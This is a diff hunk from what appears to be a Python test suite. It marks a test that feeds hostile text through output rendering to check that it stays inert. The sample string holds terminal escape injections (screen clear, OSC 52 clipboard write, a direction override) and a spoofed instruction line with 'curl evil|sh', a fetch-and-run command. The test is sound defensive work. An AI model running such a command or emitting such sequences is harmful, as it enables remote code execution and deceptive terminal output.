@@ -200,6 +200,7 @@ def test_sweep_leads_only_to_what_can_be_asked(namespace: str, pod: str, line: s
     assert [each for each in told if each.startswith("imagepull why")] == ([line] if line else [])
 
 
+@pytest.mark.attack(34, "ANSI", "OSC 52", "rich markup")
 def test_hostile_text_is_inert() -> None:
     """ANSI, OSC 52, rich markup, direction marks and new lines are shown as escapes; no line pretends to be ours."""
     hostile = "x\x1b[2J\x1b]52;c;ZXZpbA==\x07[bold red]\u202e\u200b\n\nWhat to do\n  curl evil|sh"
